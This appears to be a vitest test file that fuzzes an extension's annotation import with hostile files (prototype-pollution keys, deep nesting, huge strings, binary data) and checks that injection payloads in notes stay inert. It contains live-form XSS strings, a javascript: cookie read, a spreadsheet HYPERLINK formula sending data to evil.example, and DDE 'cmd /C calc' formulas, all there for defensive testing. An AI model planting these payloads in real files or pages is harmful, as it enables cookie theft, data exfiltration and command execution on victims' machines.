// Hostile import files: every mutated, oversized, deeply nested, binary or prototype-polluting file
// is refused with a zh/en message or applied correctly — never a throw, never a partial write,
// never slow — and notes carrying HTML, javascript: links or spreadsheet formulas stay plain text.
import fc from 'fast-check';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import type { DubanDatabase } from '../db/database';
import { createService } from '../../entrypoints/background/router';
import { buildCsv } from './export-csv';
import { buildTransferFile, serializeTransferFile } from './export-json';
import { EMPTY_FILE, IMPORT_LIMITS, NOT_UTF8, REFUSED } from './limits';
import type { Failure } from '../protocol';
import { sayIn, unsaid } from '../../tests/unit/i18n';
import { parseTransferFile } from './parse-file';
import { checkFileSize, decodeImportFile } from './read-file';
import { readSnapshot } from '../db/transfer-store';
import { noticeKey } from '../notice/notice-key';
import { applyEdits, dispose, dump, editArb, freshDb, syntheticNotice } from './test/fixtures';

const T0 = Date.UTC(2025, 2, 1);
const notices = [syntheticNotice(1, 10), syntheticNotice(2, 6)];
const POISON = ['__proto__', 'constructor', 'prototype'];
const protoNames = Object.getOwnPropertyNames(Object.prototype).sort();

/** How long one case may take (the brief: well under a second). */
const CASE_MS = 1000;
let slowest = { ms: 0, what: '' };

/** Object.prototype as the test started: nothing added, nothing replaced. */
function expectPrototypesClean() {
  expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(protoNames);
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  expect(Object.getPrototypeOf({})).toBe(Object.prototype);
}

/** No stored object has a __proto__/constructor/prototype key, and every one is a plain object. */
function expectNoPoisonKeys(value: unknown, path = '$') {
  if (Array.isArray(value)) return value.forEach((v, i) => expectNoPoisonKeys(v, `${path}[${i}]`));
  if (typeof value !== 'object' || value === null) return;
  expect(Object.getPrototypeOf(value), path).toBe(Object.prototype);
  for (const k of POISON) expect(Object.prototype.hasOwnProperty.call(value, k), `${path}.${k}`).toBe(false);
  for (const [k, v] of Object.entries(value)) expectNoPoisonKeys(v, `${path}.${k}`);
}

/** A refusal says REFUSED, then at least one reason, each complete in every catalogue. */
function expectClearRefusal(r: Failure) {
  expect(r.code).toBe(REFUSED.code);
  expect(r.details?.length).toBeGreaterThan(0);
  for (const m of r.details ?? []) expect(unsaid(m), r.error).toEqual([]);
}

let target: DubanDatabase;
let good: any;
beforeAll(async () => {
  const base = await freshDb('hostile-base');
  const end = await applyEdits(base, notices, fc.sample(editArb(notices.length, 10), { numRuns: 30, seed: 3 }), T0);
  good = JSON.parse(serializeTransferFile(buildTransferFile(await readSnapshot(base), end).file));
  await dispose(base);
  target = await freshDb('hostile');
  await applyEdits(target, notices, fc.sample(editArb(notices.length, 10), { numRuns: 10, seed: 5 }), T0);
});
afterAll(async () => {
  await dispose(target);
  console.info(`slowest hostile case: ${slowest.ms.toFixed(0)} ms (${slowest.what})`);
});
afterEach(() => expectPrototypesClean());

/**
 * Imports `text` through the background's handlers (preview, then apply) and checks the outcome:
 * refused with a clear message and nothing written, or applied with every item stored.
 */
async function importChecked(text: string, what: string): Promise<'applied' | 'refused'> {
  const service = createService(target, () => T0 + 10_000_000);
  const before = await dump(target);
  const t = performance.now();
  const preview = await service.handle('previewImport', { text });
  const r = await service.handle('applyImport', { text });
  const ms = performance.now() - t;
  if (ms > slowest.ms) slowest = { ms, what };
  expect(r.ok, what).toBe(preview.ok);
  expectPrototypesClean();
  const after = await dump(target);
  expectNoPoisonKeys(after);
  if (!r.ok) {
    expectClearRefusal(r);
    expect(after).toEqual(before);
    return 'refused';
  }
  const parsed = parseTransferFile(text);
  if (!parsed.ok) throw new Error(`${what}: applied a file the parser refuses`);
  for (const n of parsed.file.notices) {
    expect(await target.notices.get(n.key)).toBeDefined();
    for (const i of n.items) expect(await target.annotations.get([n.key, i.itemKey])).toBeDefined();
  }
  return 'applied';
}

/** Placeholders replaced in the JSON text, so a mutation can put raw text anywhere. */
const RAW = '\u0001RAW\u0001';
const KEY = '\u0001KEY\u0001';

const deepArrays = (n: number) => '['.repeat(n) + ']'.repeat(n);
const deepObjects = (n: number) => '{"a":'.repeat(n) + '1' + '}'.repeat(n);

type Mutation =
  | { kind: 'set'; path: number[]; value: unknown }
  | { kind: 'raw'; path: number[]; raw: string }
  | { kind: 'key'; path: number[]; raw: string }
  | { kind: 'delete'; path: number[] }
  | { kind: 'duplicate'; path: number[] }
  | { kind: 'newNotice'; n: number }
  | { kind: 'truncate'; cut: number };

const poisonKey = fc.constantFrom(
  '"__proto__":{"polluted":"yes","status":"done","note":"污染"}',
  '"constructor":{"prototype":{"polluted":"yes"}}',
  '"prototype":{"polluted":"yes"}',
  '"__proto__":null',
  '"__proto__":[1,2,3]',
  '"__proto__":"x","constructor":1,"prototype":[]',
);
const rawValue = fc.oneof(
  fc.constantFrom(deepArrays(10_000), deepObjects(10_000), deepArrays(100_000)),
  fc.constantFrom(100_000, 1_000_000, 5_000_000).map((n) => JSON.stringify('长'.repeat(n))),
  fc.constantFrom(JSON.stringify('x'.repeat(IMPORT_LIMITS.maxBytes))),
);
const path = fc.array(fc.nat(), { minLength: 1, maxLength: 7 });

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant('set' as const), path, value: fc.oneof(fc.jsonValue({ maxDepth: 2 }), fc.constantFrom(-1, 1e308, 0.5, '', 'urgent', true, null, [], {})) }),
  fc.record({ kind: fc.constant('raw' as const), path, raw: rawValue }),
  fc.record({ kind: fc.constant('key' as const), path, raw: poisonKey }),
  fc.record({ kind: fc.constant('delete' as const), path }),
  fc.record({ kind: fc.constant('duplicate' as const), path }),
  fc.record({ kind: fc.constant('newNotice' as const), n: fc.integer({ min: 3, max: 99 }) }),
  fc.record({ kind: fc.constant('truncate' as const), cut: fc.nat() }),
);

/** Follows `path` down the file (each step modulo the node's size); returns the parent and key reached. */
function walk(f: any, steps: number[]): { parent: any; key: string | number } {
  let parent: any = f;
  let key: string | number = 'notices';
  for (const p of steps) {
    const node = parent[key];
    if (node === null || typeof node !== 'object') break;
    const keys: (string | number)[] = Array.isArray(node) ? node.map((_: unknown, i: number) => i) : Object.keys(node);
    if (!keys.length) break;
    parent = node;
    key = keys[p % keys.length];
  }
  return { parent, key };
}

function mutate(m: Mutation): string {
  const f = structuredClone(good);
  switch (m.kind) {
    case 'truncate': {
      const s = JSON.stringify(f);
      return s.slice(0, m.cut % s.length);
    }
    case 'newNotice': {
      // A notice this database has never seen, well formed: applied, creating the notice.
      const n = syntheticNotice(m.n, 3);
      const at = new Date(T0).toISOString();
      f.notices.push({
        key: noticeKey(n),
        docNo: n.docNo,
        url: n.sourceUrl,
        title: n.title,
        sections: n.sections,
        items: n.items.map((i) => ({ itemKey: i.key, fingerprint: i.fingerprint, text: i.text, status: 'in_progress', note: '<b>新</b>', createdAt: at, updatedAt: at, history: [] })),
      });
      return JSON.stringify(f);
    }
    case 'key': {
      // Find an object on the path and give it the hostile key(s).
      const { parent, key } = walk(f, m.path);
      const node = parent[key];
      const obj = node !== null && typeof node === 'object' && !Array.isArray(node) ? node : parent;
      if (Array.isArray(obj)) return `{${m.raw},` + JSON.stringify(f).slice(1);
      obj[KEY] = 0;
      return JSON.stringify(f).replace(`${JSON.stringify(KEY)}:0`, m.raw);
    }
    default: {
      const { parent, key } = walk(f, m.path);
      if (m.kind === 'delete') {
        if (Array.isArray(parent)) parent.splice(Number(key), 1);
        else delete parent[key];
      } else if (m.kind === 'duplicate') {
        if (Array.isArray(parent)) parent.push(structuredClone(parent[key as number]));
        else {
          // The same key twice in the text: JSON.parse keeps the last.
          parent[KEY] = 0;
          return JSON.stringify(f).replace(`${JSON.stringify(KEY)}:0`, `${JSON.stringify(String(key))}:"urgent"`);
        }
      } else if (m.kind === 'set') {
        parent[key] = m.value;
      } else {
        parent[key] = RAW;
        return JSON.stringify(f).replace(JSON.stringify(RAW), m.raw);
      }
      return JSON.stringify(f);
    }
  }
}

describe('hostile files (fuzz)', () => {
  it('mutated export files are refused with a clear message or applied correctly, fast, never partly', async () => {
    const seen = { applied: 0, refused: 0 };
    await fc.assert(
      fc.asyncProperty(fc.array(mutation, { minLength: 1, maxLength: 3 }), async (ms) => {
        let text = JSON.stringify(good);
        for (const m of ms) text = mutateText(text, m);
        seen[await importChecked(text, ms.map((m) => m.kind).join('+'))]++;
      }),
      { numRuns: 150, seed: 20261125, endOnFailure: true },
    );
    // Both outcomes happen: the fuzz is not just refusing everything.
    expect(seen.applied).toBeGreaterThan(5);
    expect(seen.refused).toBeGreaterThan(50);
  }, 120_000); // 150 imports through a real (fake-indexeddb) database: slow on a busy 2-core machine

  it('random bytes and random text are refused by the popup decoder or the importer', async () => {
    await fc.assert(
      fc.asyncProperty(fc.oneof(fc.uint8Array({ maxLength: 2000 }), fc.string({ unit: 'binary' }).map((s) => new TextEncoder().encode(s))), async (bytes) => {
        const decoded = decodeImportFile(bytes);
        if (decoded.ok) await importChecked(decoded.text, 'bytes');
        else expect([NOT_UTF8, EMPTY_FILE]).toContain(decoded.error);
      }),
      { numRuns: 100, seed: 7 },
    );
  });
});

/** Applies one mutation to a file's text (parsed again first, so mutations compose). */
function mutateText(text: string, m: Mutation): string {
  let f: unknown;
  try {
    f = JSON.parse(text);
  } catch {
    return text; // already broken (truncated): stays so
  }
  const saved = good;
  good = f;
  try {
    return mutate(m);
  } catch (e) {
    if (e instanceof RangeError) return text; // the test's own clone of a deeply nested file
    throw e;
  } finally {
    good = saved;
  }
}

describe('hostile files (cases)', () => {
  const base = () => structuredClone(good);
  const withRaw = (place: (f: any) => void, raw: string) => {
    const f = base();
    place(f);
    return JSON.stringify(f).replace(JSON.stringify(RAW), raw);
  };

  it('refuses a 50 MB file by its size alone, before JSON.parse', async () => {
    const huge = `{"format":"duban-annotations","version":1,"notices":[],"pad":"${'x'.repeat(50 * 1024 * 1024)}"}`;
    const parse = vi.spyOn(JSON, 'parse');
    const service = createService(target, () => T0);
    const before = await dump(target);
    const r = await service.handle('applyImport', { text: huge });
    expect(parse).not.toHaveBeenCalled();
    parse.mockRestore();
    expect(r.ok).toBe(false);
    expect(!r.ok && r.details?.map((m) => sayIn('zh_CN', m))).toEqual(['文件过大（50.0 MB），上限 20.0 MB']);
    expect(!r.ok && r.details?.map((m) => sayIn('en', m))).toEqual(['The file is too large (50.0 MB); the limit is 20.0 MB']);
    expect(await dump(target)).toEqual(before);
    // The popup never reads such a file: File.size is enough.
    expect(checkFileSize(50 * 1024 * 1024)).toEqual({ ok: false, error: { code: 'import.tooLarge', params: { size: '50.0', limit: '20.0' } } });
    expect(decodeImportFile(new Uint8Array(IMPORT_LIMITS.maxBytes + 1))).toEqual({ ok: false, error: expect.objectContaining({ code: 'import.tooLarge' }) });
  });

  it('refuses 10,000 and 100,000 levels of nesting wherever they are, and ignores them in an unknown field', async () => {
    for (const depth of [10_000, 100_000]) {
      for (const deep of [deepArrays(depth), deepObjects(depth)]) {
        expect(await importChecked(deep, `file ${depth}`)).toBe('refused');
        expect(await importChecked(withRaw((f) => (f.notices = RAW), deep), `notices ${depth}`)).toBe('refused');
        expect(await importChecked(withRaw((f) => (f.notices[0].items[0].note = RAW), deep), `note ${depth}`)).toBe('refused');
        expect(await importChecked(withRaw((f) => (f.notices[0].items[0].history = RAW), deep), `history ${depth}`)).toBe('refused');
        expect(await importChecked(withRaw((f) => (f.notices[0].items[0].history[0].from = RAW), deep), `history.from ${depth}`)).toBe('refused');
        expect(await importChecked(withRaw((f) => (f.notices[0].sections = RAW), deep), `sections ${depth}`)).toBe('refused');
        // An unknown extra field is ignored: the file is imported.
        expect(await importChecked(withRaw((f) => (f.notices[0].items[0].extra = RAW), deep), `extra ${depth}`)).toBe('applied');
      }
    }
    const r = parseTransferFile(withRaw((f) => (f.notices[0].items[0].note = RAW), deepArrays(10_000)));
    expect(!r.ok && sayIn('zh_CN', r.errors[0])).toMatch(/字段 note（备注）：应为文字，实为列表 \[\[\[\[.*…$/);
    expect(!r.ok && sayIn('en', r.errors[0])).toMatch(/field note \(note\): expected text, got a list \[\[\[\[.*…$/);
  });

  it('refuses huge strings in known fields with the field named', async () => {
    const f = base();
    f.notices[0].items[0].note = '长'.repeat(IMPORT_LIMITS.maxNoteLength + 1);
    f.notices[0].title = 'x'.repeat(2_000_000);
    f.notices[0].url = `https://www.gongshu.gov.cn/art/${'a'.repeat(3_000_000)}.html`;
    expect(await importChecked(JSON.stringify(f), 'huge strings')).toBe('refused');
    const r = parseTransferFile(JSON.stringify(f));
    expect(!r.ok && r.errors.map((m) => sayIn('zh_CN', m)).join('\n')).toContain(`字段 note（备注）：超出上限 ${IMPORT_LIMITS.maxNoteLength} 字`);
  });

  it('refuses empty files, whitespace, JSON that is not an object, and binary text', async () => {
    for (const text of ['', '   \n', '\uFEFF', 'null', 'true', '0', '"duban-annotations"', '[]', '[{"format":"duban-annotations"}]', '{}']) {
      expect(await importChecked(text, JSON.stringify(text))).toBe('refused');
    }
    expect(parseTransferFile('')).toEqual({ ok: false, errors: [EMPTY_FILE] });
    expect(decodeImportFile(new Uint8Array())).toEqual({ ok: false, error: EMPTY_FILE });
    const png = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52, 0xff, 0xfe]);
    expect(decodeImportFile(png)).toEqual({ ok: false, error: NOT_UTF8 });
    // Invalid UTF-8 (a lone continuation byte, an overlong form, GBK bytes) and UTF-16.
    for (const bad of [[0x7b, 0x80, 0x7d], [0xc0, 0xaf], [0xb6, 0xbd, 0xb0, 0xec], [0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]]) {
      expect(decodeImportFile(Uint8Array.from(bad))).toEqual({ ok: false, error: NOT_UTF8 });
    }
    // What a lenient decoder would have made of a binary file reaches the importer as not-JSON.
    expect(await importChecked('\uFFFDPNG\r\n\u001a\n\u0000\u0000', 'mojibake')).toBe('refused');
    // A byte-order mark and valid UTF-8 pass the decoder.
    const ok = decodeImportFile(new TextEncoder().encode('\uFEFF' + JSON.stringify(good)));
    expect(ok.ok && parseTransferFile(ok.text).ok).toBe(true);
  });

  it('refuses an item or notice listed twice, and creates a notice the database has never seen', async () => {
    const twiceItem = base();
    twiceItem.notices[0].items.push(structuredClone(twiceItem.notices[0].items[0]));
    expect(await importChecked(JSON.stringify(twiceItem), 'item twice')).toBe('refused');
    const twiceNotice = base();
    twiceNotice.notices.push(structuredClone(twiceNotice.notices[0]));
    expect(await importChecked(JSON.stringify(twiceNotice), 'notice twice')).toBe('refused');
    expect(await importChecked(mutate({ kind: 'newNotice', n: 77 }), 'unknown notice')).toBe('applied');
    expect(await target.notices.get(noticeKey(syntheticNotice(77)))).toMatchObject({ importedOnly: true });
  });

  it('drops __proto__, constructor and prototype keys everywhere and leaves Object.prototype alone', async () => {
    const places: ((f: any) => any)[] = [
      (f) => f,
      (f) => f.notices[0],
      (f) => f.notices[0].items[0],
      (f) => f.notices[0].items[0].history[0],
      (f) => f.notices[0].sections[0],
    ];
    for (const [i, place] of places.entries()) {
      const f = base();
      place(f)[KEY] = 0;
      const text = JSON.stringify(f).replace(
        `${JSON.stringify(KEY)}:0`,
        '"__proto__":{"polluted":"yes","status":"done","isAdmin":true},"constructor":{"prototype":{"polluted":"yes"}},"prototype":{"polluted":"yes"}',
      );
      expect(JSON.parse(text)).toBeTruthy();
      expect(await importChecked(text, `proto ${i}`)).toBe('applied');
    }
    // The words as values (a 文号, a note, a unit) are just text.
    const f = base();
    f.notices[0].items[0].note = '__proto__';
    f.notices[0].items[0].units = ['constructor', 'prototype'];
    const protoKey = noticeKey({ docNo: '__proto__', sourceUrl: f.notices[0].url });
    f.notices.push({ ...structuredClone(f.notices[0]), key: protoKey, docNo: '__proto__' });
    expect(await importChecked(JSON.stringify(f), 'proto values')).toBe('applied');
    expect(await target.notices.get(protoKey)).toMatchObject({ key: protoKey, docNo: '__proto__' });
    const summary = await createService(target).handle('getPopupSummary', {});
    expect(summary.ok && summary.value.notices.some((n) => n.key === protoKey)).toBe(true);
  });
});

describe('payloads in notes stay inert', () => {
  const payloads = [
    '<script>alert(1)</script>',
    '<img src=x onerror="document.title=\'pwned\'">',
    'javascript:alert(document.cookie)',
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    '-1+1',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
    '=1+1\n第二行',
  ];

  it('keeps them as plain text through a JSON round trip and neutralises them in CSV', async () => {
    const a = await freshDb('inert-a');
    const b = await freshDb('inert-b');
    try {
      const notice = syntheticNotice(9, payloads.length);
      await applyEdits(a, [notice], payloads.map((note, i) => ({ notice: 0, item: i + 1, note, after: 1 })), T0);
      const text = serializeTransferFile(buildTransferFile(await readSnapshot(a), T0 + 100).file);
      expect((await createService(b, () => T0 + 200).handle('applyImport', { text })).ok).toBe(true);
      const notes = (await b.annotations.toArray()).sort((x, y) => Number(x.itemKey) - Number(y.itemKey)).map((x) => x.note);
      expect(notes).toEqual(payloads);
      const again = JSON.parse(serializeTransferFile(buildTransferFile(await readSnapshot(b), T0 + 300).file));
      expect(again.notices[0].items.map((i: { note: string }) => i.note)).toEqual(payloads);

      const rows = parseCsv(buildCsv(await readSnapshot(b)));
      const noteColumn = rows[0].indexOf('备注 Note');
      for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(rows.slice(1).map((r) => r[noteColumn])).toEqual(payloads.map((p) => (/^[=+\-@\t\r]/.test(p) ? `'${p}` : p)));
    } finally {
      await Promise.all([dispose(a), dispose(b)]);
    }
  });
});

/** RFC 4180 cells (the BOM dropped): enough to read back what buildCsv wrote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const s = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < s.length; i++) {
    const c = s[i];
    if (quoted) {
      if (c === '"' && s[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && s[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  return rows;
}
